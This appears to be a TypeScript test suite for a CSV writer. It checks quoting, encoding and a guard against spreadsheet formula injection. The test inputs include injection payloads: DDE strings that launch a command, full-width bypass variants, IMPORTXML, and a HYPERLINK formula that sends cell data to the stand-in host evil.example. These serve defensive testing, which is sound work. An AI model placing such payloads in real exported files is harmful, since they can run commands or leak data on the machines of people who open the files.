import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type Cell, writeCsv } from '../../../src/render/csv.ts';

/** The one cell of a table of one row, as it stands in the file. */
const written = (cell: Cell) => writeCsv(['a'], [[cell]]).split('\r\n')[1];

test('a file begins with a byte order mark, and every line ends with CRLF', () => {
  expect(writeCsv(['名', 'value'], [['石榴', 1]])).toBe('\uFEFF名,value\r\n石榴,1\r\n');
});

test.each([
  ['a,b', '"a,b"'],
  ['say “x”', 'say “x”'],
  ['say "x"', '"say ""x"""'],
  ['two\nlines', '"two\nlines"'],
  ['', ''],
])('the text %j is written %j', (text, expected) => {
  expect(written(text)).toBe(expected);
});

test.each([
  '=1+1',
  '+1',
  '-2',
  '@A1',
  '\t=1',
  ' =1',
  '＝1',
  '＋1',
  '－1',
  '＠A1',
  '\r=1',
  '\nx',
  '\n=1',
  '\u00a0=1',
  '\ufeff=1',
  '=cmd|"/C calc"!A0',
  '@SUM(1)*cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '=IMPORTXML(A1,"//a")',
  '=1","=2',
])('the text %j is no formula', (text) => {
  expect(written(text)?.replace(/^"/, '')).toMatch(/^'/);
});

test.each([
  ['a;=1', "a;'=1"],
  ['a; -1', "a;' -1"],
  ['a\t@x', "a\t'@x"],
  ['a\n=1', '"a\n\'=1"'],
  ['a\r\n+1', '"a\r\n\'+1"'],
  ['a;＝1;=2', "a;'＝1;'=2"],
  ['";=1', '""";\'=1"'],
  ['a, -1', '"a, -1"'],
  ['a;b', 'a;b'],
])('the text %j begins no formula in a spreadsheet that parts cells elsewhere: %j', (text, expected) => {
  expect(writeCsv(['a'], [[text]]).slice('\uFEFFa\r\n'.length, -2)).toBe(expected);
});

test.each([
  [-3.2, '-3.2'],
  [1e21, '1000000000000000000000'],
  [1e-9, '0.000000001'],
  [0, '0'],
  [true, 'true'],
  [null, ''],
])('%j is written %s', (cell, expected) => {
  expect(written(cell)).toBe(expected);
});

/** The text without the apostrophes that keep a spreadsheet from computing it. */
function unguarded(text: string): string {
  return text
    .replace(/^'(?=\s*(?:[;\t\r\n]')?[^\S\t\r\n]*[=+\-@＝＋－＠\t\r\n])/, '')
    .replaceAll(/(?<=[;\t\r\n])'(?=[^\S\t\r\n]*[=+\-@＝＋－＠])/g, '');
}

test('a reader of CSV gets back every text and every number', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.double({ noNaN: true, min: -1e15, max: 1e15 }),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
      const read: string[][] = parse(writeCsv(['a', 'b'], rows), {
        bom: true,
        recordDelimiter: '\r\n',
      });
      const back = read.slice(1).map((row, line) =>
        row.map((text, index) => {
          const original = rows[line]?.[index];
          return typeof original === 'number' ? Number(text) : unguarded(text);
        }),
      );
      // The sign of zero is not written.
      expect(back).toEqual(rows.map((row) => row.map((one) => (one === 0 ? 0 : one))));
    }),
    { seed: 1, numRuns: 300 },
  );
});
